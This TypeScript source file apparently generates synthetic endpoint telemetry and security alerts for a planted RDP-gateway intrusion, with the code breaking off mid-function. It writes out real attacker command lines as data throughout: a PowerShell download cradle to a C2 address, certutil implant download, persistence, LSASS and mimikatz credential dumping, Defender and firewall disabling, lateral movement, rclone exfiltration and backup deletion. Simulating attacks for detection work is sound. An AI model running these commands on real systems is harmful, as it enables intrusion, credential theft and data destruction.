/**
 * Planted intrusions on the endpoint side, tied to the planted network actors where they meet:
 * - RDP gateway brute force: 185.220.101.34 (the planted horizontal 3389 scanner; 3389 is closed everywhere, so it
 *   turns to the RD Gateway on 443) guesses passwords on the internet-facing rdgw server (the one with its firewall
 *   off), gets in as svc_backup, and works the box: discovery, an encoded PowerShell download cradle, certutil
 *   download, scheduled-task and Run-key persistence, LSASS dumping, Defender tampering, a vulnerable driver, a new
 *   local admin, AdFind, PsExec and WMI to internal servers, rclone, shadow-copy deletion, event-log clearing.
 * - Phishing: a macro document from a look-alike billing domain, opened from Outlook on a workstation, spawns an
 *   encoded PowerShell that drops a DLL run by rundll32 (caught by antivirus).
 * - A web shell written by w3wp on the first internet-facing web server, then commands under w3wp.
 * - SSH password guessing on the Linux bastion by 122.176.43.2 (the planted non-facing-target scanner).
 * - The VPN user 192.168.1.77 mistyping a password at the RD gateway; a USB copy by a workstation user.
 * What the alerts and the e-mail tables need is returned as StoryFacts.
 */
import type { Device } from './generate.js';
import { HOUR_TICKS, MIN_TICKS, SEC_TICKS, WELL_KNOWN, type Acct, type Img, type PV } from './endpoint.js';
import { adminSession, logonRow, psCommands, rootAcct, run, sessionAt, type Activity } from './endpoint-activity.js';
import { GUESSED_ACCOUNTS } from './endpoint-catalog.js';

const MS_TICKS = 10_000;
export const BRUTE_FORCE_IP = '185.220.101.34';
export const SSH_GUESSER_IP = '122.176.43.2';
export const C2_IP = '45.137.21.9';
export const PHISH_DOMAIN = 'fabrikam-billing.com';

export interface Evidence {
  type: 'Machine' | 'User' | 'Process' | 'File' | 'Ip' | 'Url' | 'MailMessage' | 'RegistryValue';
  role: 'Impacted' | 'Related' | 'Attacker';
  dev?: Device;
  proc?: PV;
  img?: Img;
  acct?: Acct;
  ip?: string;
  url?: string;
  registry?: [string, string, string];
  threat?: string;
  messageId?: string;
  subject?: string;
}

export interface AlertFact {
  t: number;
  title: string;
  category: string;
  severity: 'High' | 'Medium' | 'Low' | 'Informational';
  service: string;
  detection: string;
  techniques: string[];
  evidence: Evidence[];
}

export interface StoryFacts {
  alerts: AlertFact[];
  /** NTLM validations the domain controller saw for the brute force (for IdentityLogonEvents). */
  bruteForce: { t: number; account: string; ok: boolean }[];
  rdgw: Device | null;
  dc: Device | null;
  phish: { t: number; victim: Device; acct: Acct; attachment: Img; others: Acct[]; messageId: string } | null;
  compromised: Acct | null;
  /** When the intruder turned the RD gateway's firewall off (window ticks). */
  firewallOffAt: number;
}

function b64Utf16(s: string): string {
  return Buffer.from(s, 'utf16le').toString('base64');
}

// Story steps are planned to the minute; the sub-minute part keeps them from looking typed in.
let jitter = 0;
const at = (hours: number, minutes = 0): number => 24 * HOUR_TICKS - hours * HOUR_TICKS - minutes * MIN_TICKS + (jitter = (jitter * 7919 + 104_729) % 599_999) * 100;

export function plantStories(a: Activity): StoryFacts {
  jitter = a.rng.int(0, 599_998);
  const facts: StoryFacts = { alerts: [], bruteForce: [], rdgw: null, dc: a.dcs[0] ?? null, phish: null, compromised: null, firewallOffAt: 0 };
  rdgwIntrusion(a, facts);
  phishing(a, facts);
  webShell(a, facts);
  htaFollowUp(a, facts);
  clickFix(a, facts);
  sshGuessing(a);
  usbCopy(a);
  msolAdmin(a);
  return facts;
}

function rdgwIntrusion(a: Activity, facts: StoryFacts): void {
  const { w, rng } = a;
  const rdgw = a.w.fleet.byRole.get('rdgw')?.find((d) => d.kind === 'if-server');
  if (!rdgw) return;
  facts.rdgw = rdgw;
  const ds = w.state(rdgw);
  const host = rdgw.name.split('.')[0]!.toUpperCase();
  const victim: Acct = { ...a.services.backup, logonId: w.newLogonId(), admin: true };
  facts.compromised = victim;

  // 1. Password guessing through the RD Gateway (NTLM over HTTPS: Network logons), ~45 minutes.
  const start = at(10, 20);
  const n = 640;
  for (let i = 0; i < n; i++) {
    const t = start + Math.floor((i * 45 * MIN_TICKS) / n) + rng.int(0, 900) * MS_TICKS;
    const name = i % 97 === 96 ? 'svc_backup' : GUESSED_ACCOUNTS[(i * 7 + rng.int(0, 3)) % GUESSED_ACCOUNTS.length]!;
    const domainAcct = name === 'svc_backup';
    const acct: Acct = domainAcct ? { ...victim, logonId: 0 } : { domain: host, name, sid: null, upn: null, objectId: null, logonId: 0, admin: false };
    logonRow(a, t, rdgw, 'LogonFailed', 'Network', acct, { protocol: 'NTLM', remoteIp: BRUTE_FORCE_IP, remoteDevice: 'WIN-8K3J2LQ0F1', local: false, failure: 'InvalidUserNameOrPassword' });
    if (domainAcct) facts.bruteForce.push({ t, account: name, ok: false });
    else if (i % 5 === 0) facts.bruteForce.push({ t, account: name, ok: false });
  }
  const tIn = start + 47 * MIN_TICKS;
  facts.bruteForce.push({ t: tIn, account: 'svc_backup', ok: true });
  // The guessed password opens an RDP session through the gateway (Network then RemoteInteractive logon).
  const session = adminSession(a, rdgw, tIn + 2 * SEC_TICKS, victim, { ip: BRUTE_FORCE_IP, name: 'WIN-8K3J2LQ0F1' });
  const ex = session.explorer;
  facts.alerts.push({
    t: tIn + 5 * MIN_TICKS, title: 'Suspected brute-force attack (Kerberos, NTLM)', category: 'CredentialAccess', severity: 'Medium',
    service: 'Microsoft Defender for Identity', detection: 'Microsoft Defender for Identity', techniques: ['Brute Force (T1110)', 'Password Guessing (T1110.001)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: rdgw }, { type: 'User', role: 'Impacted', acct: victim, dev: rdgw }, { type: 'Ip', role: 'Attacker', ip: BRUTE_FORCE_IP }],
  });

  // 2. Discovery from a command prompt.
  let t = at(9, 25);
  const cmd = run(a, t, ex, 'cmd', '"C:\\Windows\\system32\\cmd.exe" ');
  const disc: [string, string][] = [
    ['whoami', 'whoami /all'], ['net', 'net user /domain'], ['net', 'net group "Domain Admins" /domain'], ['nltest', 'nltest /dclist:contoso.com'],
    ['ipconfig', 'ipconfig /all'], ['systeminfo', 'systeminfo'], ['quser', 'quser'], ['net', 'net view \\\\file-01'], ['netstat', 'netstat -ano'],
    ['wmic', 'wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName /format:list'], ['net', 'net localgroup administrators'],
    ['vssadmin', 'vssadmin list shadows'], ['nltest', 'nltest /domain_trusts /all_trusts'],
  ];
  for (const [key, line] of disc) {
    t += rng.int(8, 50) * SEC_TICKS;
    const p = run(a, t, cmd, key, line, { loadChance: 1 });
    if (key === 'net') w.spawn(t + 20 * MS_TICKS, p, 'net1', `C:\\Windows\\system32\\net1 ${line.slice(4)}`, { loadChance: 1 });
  }

  // 3. Encoded PowerShell download cradle, tool downloads.
  t = at(9, 10);
  const cradle = `IEX (New-Object Net.WebClient).DownloadString('http://${C2_IP}/a.ps1')`;
  const ps = run(a, t, cmd, 'powershell', `powershell.exe -nop -w hidden -enc ${b64Utf16(cradle)}`, { loadChance: 1 });
  psCommands(a, t, ps, ['New-Object', 'Invoke-Expression', 'Invoke-WebRequest', 'Invoke-WebRequest', 'Invoke-WebRequest', 'Invoke-WebRequest']);
  const pipe = `\\Device\\NamedPipe\\PSHost.${rng.int(1e17, 9e17)}.${ps.pid}.DefaultAppDomain.powershell`;
  w.devEvent(t + SEC_TICKS, rdgw, 'NamedPipeEvent', { FileName: pipe.slice(pipe.lastIndexOf('\\') + 1), AdditionalFields: JSON.stringify({ PipeName: pipe, FileOperation: 'File created', NamedPipeEnd: 'Server', ThreadId: rng.int(1000, 9000) }) }, ps);
  const tools: Record<string, Img> = {};
  ['procdump', 'adfind', 'mimikatz', 'psexec', 'rclone'].forEach((k, i) => {
    const im = w.img(rdgw, k);
    tools[k] = im;
    w.fileEvent(t + (i + 1) * 20 * SEC_TICKS, ps, 'FileCreated', im.path, { FileOriginUrl: `http://${C2_IP}/t/${im.file}`, FileOriginIP: C2_IP }, im);
  });
  facts.alerts.push({
    t: t + 2 * SEC_TICKS, title: 'Suspicious decoded content', category: 'Execution', severity: 'Medium', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
    techniques: ['PowerShell (T1059.001)', 'Obfuscated Files or Information (T1027)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: rdgw }, { type: 'Process', role: 'Related', proc: ps }, { type: 'User', role: 'Impacted', acct: victim, dev: rdgw }, { type: 'Ip', role: 'Related', ip: C2_IP }],
  });

  // 4. certutil download of the implant; persistence by scheduled task and Run key; the implant runs.
  t = at(9, 5);
  const cu = run(a, t, cmd, 'certutil', `certutil.exe -urlcache -split -f http://${C2_IP}/svchosts.exe C:\\ProgramData\\svchosts.exe`, { loadChance: 1 });
  const implant = w.img(rdgw, 'payload');
  w.fileEvent(t + 2 * SEC_TICKS, cu, 'FileCreated', implant.path, { FileOriginUrl: `http://${C2_IP}/svchosts.exe`, FileOriginIP: C2_IP }, implant);
  t = at(9, 0);
  const st = run(a, t, cmd, 'schtasks', 'schtasks /create /tn "\\Microsoft\\Windows\\WindowsUpdate\\UpdateCheck" /tr "C:\\ProgramData\\svchosts.exe" /sc onlogon /ru SYSTEM /f');
  const task = '\\Microsoft\\Windows\\WindowsUpdate\\UpdateCheck';
  w.devEvent(t + SEC_TICKS, rdgw, 'ScheduledTaskCreated', { AdditionalFields: JSON.stringify({ TaskName: task, TaskContent: '<?xml version="1.0" encoding="UTF-16"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers><Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Actions Context="Author"><Exec><Command>C:\\ProgramData\\svchosts.exe</Command></Exec></Actions></Task>' }) }, st);
  const sched = ds.base.get('schedule')!;
  w.regEvent(t + SEC_TICKS, sched, 'RegistryKeyCreated', `HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree${task}`, null, null, null);
  const reg = run(a, t + 30 * SEC_TICKS, cmd, 'reg', 'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v WindowsUpdate /t REG_SZ /d C:\\ProgramData\\svchosts.exe /f');
  w.regEvent(t + 31 * SEC_TICKS, reg, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'WindowsUpdate', 'String', 'C:\\ProgramData\\svchosts.exe');
  const beacon = w.spawn(t + 60 * SEC_TICKS, sched, 'payload', 'C:\\ProgramData\\svchosts.exe', { acct: WELL_KNOWN.system, img: implant });
  w.load(t + 61 * SEC_TICKS, beacon, 'samlib');
  w.load(t + 61 * SEC_TICKS, beacon, 'wininet');
  for (const name of ['\\Device\\NamedPipe\\msagent_4f', '\\Device\\NamedPipe\\wkssvc']) {
    w.devEvent(t + 62 * SEC_TICKS, rdgw, 'NamedPipeEvent', { FileName: name.slice(name.lastIndexOf('\\') + 1), AdditionalFields: JSON.stringify({ PipeName: name, FileOperation: 'File created', NamedPipeEnd: 'Server', ThreadId: rng.int(1000, 9000) }) }, beacon);
  }
  w.devEvent(t + 63 * SEC_TICKS, rdgw, 'CreateRemoteThreadApiCall', { FileName: 'dllhost.exe', FolderPath: 'C:\\Windows\\System32\\dllhost.exe', ProcessId: w.pid(rdgw) }, beacon);
  facts.alerts.push({
    t: t + 2 * SEC_TICKS, title: 'Suspicious Task Scheduler activity', category: 'Persistence', severity: 'Medium', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
    techniques: ['Scheduled Task (T1053.005)', 'Registry Run Keys / Startup Folder (T1547.001)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: rdgw }, { type: 'Process', role: 'Related', proc: st }, { type: 'File', role: 'Related', img: implant, dev: rdgw }, { type: 'RegistryValue', role: 'Related', registry: ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'WindowsUpdate', 'C:\\ProgramData\\svchosts.exe'] }],
  });

  // 5. Credential dumping: ProcDump on LSASS, comsvcs MiniDump, mimikatz.
  t = at(8, 50);
  const pd = run(a, t, cmd, 'procdump', 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp', { img: tools.procdump });
  w.regEvent(t + SEC_TICKS, pd, 'RegistryValueSet', `HKEY_CURRENT_USER\\${victim.sid}\\Software\\Sysinternals\\ProcDump`, 'EulaAccepted', 'Dword', '1');
  w.load(t + SEC_TICKS, pd, 'dbghelp');
  w.load(t + SEC_TICKS, pd, 'dbgcore');
  w.devEvent(t + 2 * SEC_TICKS, rdgw, 'OpenProcessApiCall', { FileName: 'lsass.exe', FolderPath: 'C:\\Windows\\System32\\lsass.exe', AdditionalFields: JSON.stringify({ DesiredAccess: 2097151 }) }, pd);
  w.devEvent(t + 2 * SEC_TICKS, rdgw, 'AsrLsassCredentialTheftAudited', { FileName: 'lsass.exe', FolderPath: 'C:\\Windows\\System32\\lsass.exe', AdditionalFields: JSON.stringify({ IsAudit: true }) }, pd);
  const dump = w.fileEvent(t + 5 * SEC_TICKS, pd, 'FileCreated', 'C:\\Windows\\Temp\\lsass.dmp', { FileSize: 52_428_800 });
  const rd = run(a, t + 3 * MIN_TICKS, cmd, 'rundll32', `rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump ${ds.base.get('lsass')!.pid} C:\\Windows\\Temp\\d.bin full`, { loadChance: 1 });
  w.load(t + 3 * MIN_TICKS + SEC_TICKS, rd, 'comsvcs');
  w.devEvent(t + 3 * MIN_TICKS + 2 * SEC_TICKS, rdgw, 'AntivirusDetection', { FileName: 'rundll32.exe', FolderPath: rd.path, SHA1: rd.sha1, SHA256: rd.sha256, MD5: rd.md5, AdditionalFields: JSON.stringify({ ThreatName: 'Behavior:Win32/LsassDump.A', WasRemediated: true, WasExecutingWhileDetected: true, Action: 'Blocked' }) }, rd);
  const mk = run(a, t + 6 * MIN_TICKS, cmd, 'mimikatz', 'm.exe "privilege::debug" "sekurlsa::logonpasswords" "exit"', { img: tools.mimikatz });
  w.devEvent(t + 6 * MIN_TICKS + SEC_TICKS, rdgw, 'AntivirusDetection', { FileName: tools.mimikatz!.file, FolderPath: tools.mimikatz!.path, SHA1: tools.mimikatz!.sha1, SHA256: tools.mimikatz!.sha256, MD5: tools.mimikatz!.md5, FileSize: tools.mimikatz!.size, AdditionalFields: JSON.stringify({ ThreatName: 'HackTool:Win64/Mimikatz!pz', WasRemediated: true, WasExecutingWhileDetected: true, Action: 'Quarantined' }) }, cmd);
  facts.alerts.push({
    t: t + 3 * SEC_TICKS, title: 'Suspicious access to LSASS service', category: 'CredentialAccess', severity: 'High', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
    techniques: ['OS Credential Dumping (T1003)', 'LSASS Memory (T1003.001)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: rdgw }, { type: 'Process', role: 'Related', proc: pd }, { type: 'File', role: 'Related', img: dump, dev: rdgw }],
  });
  facts.alerts.push({
    t: t + 6 * MIN_TICKS + SEC_TICKS, title: "'Mimikatz' hacktool was prevented", category: 'Malware', severity: 'High', service: 'Microsoft Defender for Endpoint', detection: 'Antivirus',
    techniques: ['OS Credential Dumping (T1003)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: rdgw }, { type: 'File', role: 'Impacted', img: tools.mimikatz, dev: rdgw, threat: 'Mimikatz' }, { type: 'Process', role: 'Related', proc: mk }],
  });

  // 6. Defence evasion: Defender tampering, WDigest, a vulnerable signed driver.
  t = at(8, 40);
  const gm = run(a, t - 2 * MIN_TICKS, cmd, 'powershell', 'powershell.exe -NoProfile -Command "Get-MpPreference | Select-Object DisableRealtimeMonitoring,ExclusionPath,ExclusionProcess"');
  psCommands(a, t - 2 * MIN_TICKS, gm, ['Get-MpPreference', 'Select-Object']);
  const ps2 = run(a, t, cmd, 'powershell', 'powershell.exe -ExecutionPolicy Bypass -NoProfile -Command "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData; Add-MpPreference -ExclusionProcess svchosts.exe"', { loadChance: 1 });
  psCommands(a, t, ps2, ['Set-MpPreference', 'Add-MpPreference', 'Add-MpPreference']);
  w.spawn(t + 3 * SEC_TICKS, ps2, 'sc', 'C:\\Windows\\system32\\sc.exe stop WinDefend');
  const mp = ds.base.get('msmpeng')!;
  w.regEvent(t + 2 * SEC_TICKS, mp, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths', 'C:\\ProgramData', 'Dword', '0');
  w.regEvent(t + 2 * SEC_TICKS, mp, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Processes', 'svchosts.exe', 'Dword', '0');
  run(a, t + 30 * SEC_TICKS, cmd, 'netsh', 'netsh advfirewall set allprofiles state off');
  facts.firewallOffAt = t + 31 * SEC_TICKS;
  run(a, t + 40 * SEC_TICKS, cmd, 'netsh', 'netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=3389');
  const ts = run(a, t + 50 * SEC_TICKS, cmd, 'reg', 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f');
  w.regEvent(t + 51 * SEC_TICKS, ts, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\Terminal Server', 'fDenyTSConnections', 'Dword', '0');
  const sk = run(a, t + 70 * SEC_TICKS, cmd, 'reg', 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe" /f');
  w.regEvent(t + 71 * SEC_TICKS, sk, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe', 'Debugger', 'String', 'C:\\windows\\system32\\cmd.exe');
  w.devEvent(t + 2 * SEC_TICKS, rdgw, 'TamperingAttempt', { AdditionalFields: JSON.stringify({ TamperingAction: 'RegistryModification', Status: 'Blocked', Target: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring', TamperingAttemptedValue: '1', OriginalValue: '0' }) }, ps2);
  const wd = run(a, t + MIN_TICKS, cmd, 'reg', 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest" /v UseLogonCredential /t REG_DWORD /d 1 /f');
  w.regEvent(t + MIN_TICKS + SEC_TICKS, wd, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\SecurityProviders\\WDigest', 'UseLogonCredential', 'Dword', '1');
  const drv = w.img(rdgw, 'driver:gdrv', { path: 'C:\\Windows\\Temp\\gdrv.sys', company: 'GIGA-BYTE TECHNOLOGY CO., LTD.', product: 'GIGABYTE Software driver', version: '5.2.1.0', description: 'GIGABYTE Tools', original: 'gdrv.sys', internal: 'gdrv.sys', size: 26_432, signer: 'gigabyte' });
  w.fileEvent(t + 2 * MIN_TICKS, ps, 'FileCreated', drv.path, { FileOriginUrl: `http://${C2_IP}/t/gdrv.sys`, FileOriginIP: C2_IP }, drv);
  const sc = run(a, t + 3 * MIN_TICKS, cmd, 'sc', 'sc create gdrv type= kernel start= demand binPath= C:\\Windows\\Temp\\gdrv.sys');
  w.devEvent(t + 3 * MIN_TICKS + SEC_TICKS, rdgw, 'ServiceInstalled', { AdditionalFields: JSON.stringify({ ServiceName: 'gdrv', ServiceType: 'KernelDriver', ServiceStartType: 'DemandStart', ServiceAccount: '' }) }, sc);
  w.regEvent(t + 3 * MIN_TICKS + SEC_TICKS, ds.base.get('services')!, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\gdrv', 'ImagePath', 'ExpandString', '\\??\\C:\\Windows\\Temp\\gdrv.sys');
  w.devEvent(t + 4 * MIN_TICKS, rdgw, 'DriverLoad', { FileName: drv.file, FolderPath: drv.path, SHA1: drv.sha1, SHA256: drv.sha256, MD5: drv.md5, FileSize: drv.size }, ds.base.get('system')!);
  w.seen(rdgw, drv, t + 4 * MIN_TICKS);
  facts.alerts.push({
    t: t + 2 * SEC_TICKS, title: 'Attempt to turn off Microsoft Defender Antivirus protection', category: 'DefenseEvasion', severity: 'Medium', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
    techniques: ['Disable or Modify Tools (T1562.001)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: rdgw }, { type: 'Process', role: 'Related', proc: ps2 }],
  });

  // 7. A new local administrator.
  t = at(8, 30);
  const nu = run(a, t, cmd, 'net', 'net user backupadm Winter2026! /add');
  w.spawn(t + 20 * MS_TICKS, nu, 'net1', 'C:\\Windows\\system32\\net1 user backupadm Winter2026! /add');
  w.devEvent(t + SEC_TICKS, rdgw, 'UserAccountCreated', { AccountDomain: host, AccountName: 'backupadm', AccountSid: `${ds.machineSid}-1009` }, ds.base.get('lsass')!);
  const ng = run(a, t + 30 * SEC_TICKS, cmd, 'net', 'net localgroup administrators backupadm /add');
  w.spawn(t + 30 * SEC_TICKS + 20 * MS_TICKS, ng, 'net1', 'C:\\Windows\\system32\\net1 localgroup administrators backupadm /add');
  w.devEvent(t + 31 * SEC_TICKS, rdgw, 'UserAccountAddedToLocalGroup', { AccountDomain: host, AccountName: 'backupadm', AccountSid: `${ds.machineSid}-1009`, AdditionalFields: JSON.stringify({ GroupName: 'Administrators', GroupDomainName: 'Builtin', GroupSid: 'S-1-5-32-544' }) }, ds.base.get('lsass')!);

  // 8. AD discovery with AdFind.
  t = at(8, 20);
  const af = run(a, t, cmd, 'adfind', 'AdFind.exe -f "(objectcategory=computer)" -csv name operatingSystem', { img: tools.adfind });
  for (const filter of ['(objectcategory=computer)', '(objectcategory=person)', '(objectcategory=group)', '(trustPartner=*)']) {
    w.devEvent(t + rng.int(1, 20) * SEC_TICKS, rdgw, 'LdapSearch', { AdditionalFields: JSON.stringify({ AttributeList: ['name', 'operatingSystem', 'sAMAccountName'], ScopeOfSearch: 'SubTree', SearchFilter: filter, DistinguishedName: 'DC=contoso,DC=com' }) }, af);
  }
  w.fileEvent(t + 30 * SEC_TICKS, cmd, 'FileCreated', 'C:\\ProgramData\\ad_computers.txt', { FileSize: 48_213 });
  const rubeus = w.img(rdgw, 'rubeus', { path: 'C:\\ProgramData\\r.exe', company: null, product: 'Rubeus', version: '2.3.2.0', description: 'Rubeus', original: 'Rubeus.exe', internal: 'Rubeus.exe', size: 446_976, signer: null });
  w.fileEvent(t + 40 * SEC_TICKS, ps, 'FileCreated', rubeus.path, { FileOriginUrl: `http://${C2_IP}/t/r.exe`, FileOriginIP: C2_IP }, rubeus);
  run(a, t + 2 * MIN_TICKS, cmd, 'rubeus', 'r.exe kerberoast /outfile:C:\\ProgramData\\h.txt /nowrap', { img: rubeus });
  w.devEvent(t + 2 * MIN_TICKS + SEC_TICKS, rdgw, 'AntivirusDetection', { FileName: rubeus.file, FolderPath: rubeus.path, SHA1: rubeus.sha1, SHA256: rubeus.sha256, MD5: rubeus.md5, FileSize: rubeus.size, AdditionalFields: JSON.stringify({ ThreatName: 'HackTool:MSIL/Rubeus!MTB', WasRemediated: false, WasExecutingWhileDetected: true, Action: 'Detected' }) }, cmd);

  // 9. Lateral movement: PsExec to the SQL server, WMI to the file server.
  t = at(8, 10);
  const sql = a.w.fleet.byRole.get('sql-prod')?.[0];
  const file = a.w.fleet.byRole.get('file')?.[0];
  if (sql) {
    const px = run(a, t, cmd, 'psexec', `PsExec64.exe \\\\${sql.name.split('.')[0]} -accepteula -s cmd.exe /c "whoami & ipconfig"`, { img: tools.psexec });
    w.regEvent(t + SEC_TICKS, px, 'RegistryValueSet', `HKEY_CURRENT_USER\\${victim.sid}\\Software\\Sysinternals\\PsExec`, 'EulaAccepted', 'Dword', '1');
    const sds = w.state(sql);
    logonRow(a, t + 2 * SEC_TICKS, sql, 'LogonSuccess', 'Network', { ...victim, logonId: w.newLogonId() }, { protocol: 'NTLM', remoteIp: rdgw.localIp, remoteDevice: rdgw.name.split('.')[0]!, local: false, admin: true });
    const sysProc = sds.base.get('system')!;
    const svcImg = w.img(sql, 'psexesvc');
    w.fileEvent(t + 3 * SEC_TICKS, sysProc, 'FileCreated', svcImg.path, { RequestProtocol: 'SMB', RequestSourceIP: rdgw.localIp, RequestSourcePort: rng.int(49152, 65535), RequestAccountName: victim.name, RequestAccountDomain: 'CONTOSO', RequestAccountSid: victim.sid, ShareName: 'ADMIN$' }, svcImg);
    const services = sds.base.get('services')!;
    w.devEvent(t + 4 * SEC_TICKS, sql, 'ServiceInstalled', { AdditionalFields: JSON.stringify({ ServiceName: 'PSEXESVC', ServiceType: 'Win32OwnProcess', ServiceStartType: 'DemandStart', ServiceAccount: 'LocalSystem' }) }, services);
    w.regEvent(t + 4 * SEC_TICKS, services, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\PSEXESVC', 'ImagePath', 'ExpandString', '%SystemRoot%\\PSEXESVC.exe');
    const svc = w.spawn(t + 5 * SEC_TICKS, services, 'psexesvc', 'C:\\Windows\\PSEXESVC.exe', { acct: WELL_KNOWN.system, img: svcImg });
    w.devEvent(t + 5 * SEC_TICKS, sql, 'NamedPipeEvent', { FileName: 'PSEXESVC', AdditionalFields: JSON.stringify({ PipeName: '\\Device\\NamedPipe\\PSEXESVC', FileOperation: 'File created', NamedPipeEnd: 'Server', ThreadId: rng.int(1000, 9000) }) }, svc);
    const rc = run(a, t + 6 * SEC_TICKS, svc, 'cmd', 'cmd.exe /c "whoami & ipconfig"', { acct: WELL_KNOWN.system });
    run(a, t + 6 * SEC_TICKS + 30 * MS_TICKS, rc, 'whoami', 'whoami');
    run(a, t + 6 * SEC_TICKS + 60 * MS_TICKS, rc, 'ipconfig', 'ipconfig');
    facts.alerts.push({
      t: t + 6 * SEC_TICKS, title: 'PsExec launched a command on a remote device', category: 'LateralMovement', severity: 'Medium', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
      techniques: ['Service Execution (T1569.002)', 'SMB/Windows Admin Shares (T1021.002)'],
      evidence: [{ type: 'Machine', role: 'Impacted', dev: sql }, { type: 'Machine', role: 'Related', dev: rdgw }, { type: 'Process', role: 'Related', proc: svc }, { type: 'User', role: 'Impacted', acct: victim, dev: sql }],
    });
  }
  if (file) {
    const wm = run(a, t + 4 * MIN_TICKS, cmd, 'wmic', `wmic /node:${file.name.split('.')[0]} process call create "cmd.exe /c copy \\\\${rdgw.name.split('.')[0]}\\c$\\ProgramData\\svchosts.exe C:\\ProgramData\\svchosts.exe"`);
    void wm;
    const fds = w.state(file);
    logonRow(a, t + 4 * MIN_TICKS + SEC_TICKS, file, 'LogonSuccess', 'Network', { ...victim, logonId: w.newLogonId() }, { protocol: 'Kerberos', remoteIp: rdgw.localIp, remoteDevice: rdgw.name.split('.')[0]!, local: false, admin: true });
    const wmi = w.spawn(t + 4 * MIN_TICKS - SEC_TICKS, fds.base.get('dcom')!, 'wmiprvse', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', { acct: WELL_KNOWN.network });
    const copy = `Copy-Item \\\\${rdgw.name.split('.')[0]}\\c$\\ProgramData\\svchosts.exe C:\\ProgramData\\svchosts.exe; Start-Process C:\\ProgramData\\svchosts.exe`;
    const child = w.spawn(t + 4 * MIN_TICKS + 2 * SEC_TICKS, wmi, 'powershell', `powershell.exe -nop -w hidden -e ${b64Utf16(copy)}`, { acct: { ...victim, logonId: w.newLogonId() }, loadChance: 1 });
    w.devEvent(t + 4 * MIN_TICKS + 2 * SEC_TICKS, file, 'ProcessCreatedUsingWmiQuery', {}, wmi, child);
    w.fileEvent(t + 4 * MIN_TICKS + 3 * SEC_TICKS, child, 'FileCreated', 'C:\\ProgramData\\svchosts.exe', {}, w.img(file, 'payload'));
  }

  // 10. Staging for exfiltration with rclone, remote access with AnyDesk.
  t = at(7, 50);
  run(a, t, cmd, 'rclone', 'rclone.exe copy \\\\file-01\\Finance mega:contoso-fin -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12', { img: tools.rclone });
  const any = w.img(rdgw, 'anydesk');
  w.fileEvent(t + 5 * MIN_TICKS, ps, 'FileCreated', any.path, { FileOriginUrl: 'https://download.anydesk.com/AnyDesk.exe', FileOriginIP: '195.181.174.194' }, any);
  run(a, t + 6 * MIN_TICKS, cmd, 'anydesk', 'C:\\ProgramData\\AnyDesk\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent', { img: any });

  // 11. Inhibit recovery, clear the logs.
  t = at(7, 30);
  const impact: [string, string][] = [
    ['vssadmin', 'vssadmin.exe delete shadows /all /quiet'], ['wmic', 'wmic shadowcopy delete'],
    ['bcdedit', 'bcdedit /set {default} recoveryenabled No'], ['bcdedit', 'bcdedit /set {default} bootstatuspolicy ignoreallfailures'],
    ['wbadmin', 'wbadmin delete catalog -quiet'],
  ];
  let vss: PV | null = null;
  for (const [key, line] of impact) {
    t += rng.int(5, 40) * SEC_TICKS;
    const p = run(a, t, cmd, key, line);
    vss ??= p;
  }
  facts.alerts.push({
    t, title: 'File backups were deleted', category: 'Impact', severity: 'High', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
    techniques: ['Inhibit System Recovery (T1490)'],
    evidence: [{ type: 'Machine', role: 'Impacted', dev: rdgw }, { type: 'Process', role: 'Related', proc: vss! }, { type: 'User', role: 'Impacted', acct: victim, dev: rdgw }],
  });
